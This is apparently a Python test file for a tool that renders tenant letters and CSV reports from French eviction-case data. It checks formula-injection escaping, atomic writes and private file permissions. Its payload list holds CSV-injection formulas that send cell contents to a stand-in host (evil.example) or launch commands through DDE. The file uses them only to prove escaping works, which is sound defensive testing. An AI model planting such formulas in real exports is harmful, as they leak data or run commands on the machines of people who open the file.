"""Output files: safe to open in a spreadsheet, written whole or not at all, private whatever the umask."""

from __future__ import annotations

import csv
import os
from pathlib import Path

import pytest
from pypdf import PdfReader

from pexmail.output import files as files_module
from pexmail.output.files import write_atomic
from pexmail.output.manifest import CsvStream, neutralise

from .conftest import ROOT, RUN_DATE

# Payloads from CSV-injection write-ups (OWASP, DDE and HYPERLINK exfiltration).
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez ici")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@cmd|' /C notepad'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1);"//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_are_neutralised(payload):
    cell = neutralise(payload)
    assert cell == "'" + payload
    assert not cell.startswith(FORMULA_START)


@pytest.mark.parametrize("value", ["EXP-1", "1 234,56", "", None, "Montreuil", "'déjà"])
def test_ordinary_values_are_left_alone(value):
    assert neutralise(value) == ("" if value is None else value)


HEADER = (
    "N° dossier EXPLOC;Civilité;Nom;Prénom;Adresse;Complément d'adresse;Code postal;Commune;"
    "Type de bailleur;Bailleur;Montant de la dette;Loyer mensuel;Date de l'acte;Date du bail;Allocataire CAF"
)


def cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return [cell for row in csv.reader(stream, delimiter=";") for cell in row]


def test_no_cell_of_any_report_starts_a_formula(cli, tmp_path, monkeypatch):
    # Case ids are printed in the manifest; a file named like a formula is named in
    # rejects.csv and households.csv; rows are made to be rejected as well as rendered.
    monkeypatch.chdir(tmp_path)
    rows = []
    for n, payload in enumerate(PAYLOADS[:10], start=1):
        case_id = '"' + payload.replace('"', '""') + '"'
        debt = "2 000,00" if n % 2 else "beaucoup"
        rows.append(
            f"{case_id};Mme;NOM{n};Eve;{n} rue de Paris;;93100;Montreuil;Bailleur social;OPH;"
            f"{debt};;01/10/2026;;Oui"
        )
    name = "=HYPERLINK(A1).csv"
    Path(name).write_text("\n".join([HEADER, *rows]) + "\n", encoding="utf-8")
    result = cli(
        "render",
        name,
        "--out",
        "out",
        "--date",
        RUN_DATE.isoformat(),
        "--catalog",
        ROOT / "catalog.yaml",
        "--format",
        "docx",
    )
    assert result.exit_code == 0, result.output
    reports = sorted((tmp_path / "out").glob("*.csv"))
    assert {p.name for p in reports} >= {"manifest.csv", "rejects.csv", "households.csv"}
    manifest = cells(tmp_path / "out" / "manifest.csv")
    assert "'" + PAYLOADS[4] in manifest  # the payload is there, as text
    rejects = cells(tmp_path / "out" / "rejects.csv")
    assert "'=HYPERLINK(A1).csv" in rejects
    for path in reports:
        bad = [c for c in cells(path) if c.startswith(FORMULA_START)]
        assert bad == [], path.name


# -- atomic writes ---------------------------------------------------------------------


def test_a_failed_write_leaves_the_old_file_whole_and_no_temporary(tmp_path, monkeypatch):
    target = tmp_path / "letters" / "a.pdf"
    write_atomic(target, b"%PDF-1.7 old")

    def disk_full(fd: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(files_module.os, "fsync", disk_full)
    with pytest.raises(OSError):
        write_atomic(target, b"%PDF-1.7 new and longer")
    assert target.read_bytes() == b"%PDF-1.7 old"
    assert sorted(p.name for p in target.parent.iterdir()) == ["a.pdf"]


def test_a_csv_report_appears_only_when_finished(tmp_path):
    path = tmp_path / "manifest.csv"
    stream = CsvStream(path, ("a", "b"))
    stream.write(("1", "2"))
    assert not path.exists()
    stream.abort()
    assert list(tmp_path.iterdir()) == []
    stream = CsvStream(path, ("a", "b"))
    stream.write(("1", "2"))
    stream.finish()
    assert cells(path) == ["a", "b", "1", "2"]
    assert [p.name for p in tmp_path.iterdir()] == ["manifest.csv"]


def test_a_batch_killed_halfway_leaves_only_whole_files(cli, tmp_path, monkeypatch):
    from pexmail.render.letter import LetterRenderer

    original = LetterRenderer.render
    calls = []

    def dies_on_the_third(self, prepared):
        calls.append(1)
        if len(calls) == 3:
            raise KeyboardInterrupt  # what Ctrl-C or a kill does between two letters
        return original(self, prepared)

    monkeypatch.setattr(LetterRenderer, "render", dies_on_the_third)
    out = tmp_path / "out"
    result = cli(
        "render",
        *sorted((ROOT / "samples").glob("*.csv")),
        "--out",
        out,
        "--date",
        RUN_DATE.isoformat(),
        "--catalog",
        ROOT / "catalog.yaml",
        "--format",
        "pdf",
    )
    assert result.exit_code == 1 and "Aborted" in result.output  # click's answer to Ctrl-C
    pdfs = list((out / "letters").rglob("*.pdf"))
    assert len(pdfs) == 2
    for pdf in pdfs:
        assert len(PdfReader(pdf).pages) >= 1  # whole, readable files
    leftovers = [p.name for p in out.rglob("*") if p.name.endswith((".tmp", ".partial"))]
    assert leftovers == []
    assert not (out / "summary.json").exists()  # a run without summary is visibly unfinished


# -- permissions -------------------------------------------------------------------------


def test_every_output_file_is_private_even_with_a_permissive_umask(cli, tmp_path):
    previous = os.umask(0)
    try:
        out = tmp_path / "out"
        result = cli(
            "render",
            ROOT / "samples" / "drihl-exploc-cdp-2026-11.csv",
            "--out",
            out,
            "--date",
            RUN_DATE.isoformat(),
            "--catalog",
            ROOT / "catalog.yaml",
            "--format",
            "docx",
            "--ledger",
            tmp_path / "ledger" / "pexmail-ledger.sqlite",
        )
    finally:
        os.umask(previous)
    assert result.exit_code == 0, result.output
    paths = [*out.rglob("*"), *(tmp_path / "ledger").iterdir()]
    files = [p for p in paths if p.is_file()]
    assert any(p.suffix == ".docx" for p in files) and any(p.suffix == ".sqlite" for p in files)
    loose = {str(p.relative_to(tmp_path)): oct(p.stat().st_mode & 0o777) for p in files}
    assert {k: v for k, v in loose.items() if v != "0o600"} == {}
    folders = [out, *(p for p in out.rglob("*") if p.is_dir())]
    assert {
        str(p): oct(p.stat().st_mode & 0o777) for p in folders if p.stat().st_mode & 0o077
    } == {}
